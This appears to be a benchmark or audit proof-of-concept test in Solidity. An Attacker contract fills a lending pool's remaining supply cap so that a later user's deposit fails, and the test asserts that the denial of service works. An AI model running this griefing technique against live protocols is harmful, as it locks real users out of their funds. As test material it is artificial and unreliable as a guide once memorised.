// SPDX-License-Identifier: GPL-2.0-or-later
pragma solidity 0.8.30;

// assay-canary-8c5098a9-c61a-4b31-8860-b5736bf60939
import "../Base.sol";

contract Attacker {
    function run(IERC20 usd, ILendingPool pool) external {
        uint256 room = pool.supplyCap() - pool.totalSupplied();
        usd.approve(address(pool), room);
        pool.supply(room, address(this));
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        usd.mint(address(other), 2_000_000e6);
    }

    /// Somebody deposits a little.
    function deposits() public {
        vm.prank(CEE);
        core.deposit(1_000e6, CEE);
    }

    function exploit() public {
        other.run(usd, first);
    }

    function test_Exploit() public {
        exploit();
        (bool done_,) = address(this).call(abi.encodeCall(this.deposits, ()));
        require(!done_, "deposits go on");
    }

    function target() public view override returns (address) {
        return address(one);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
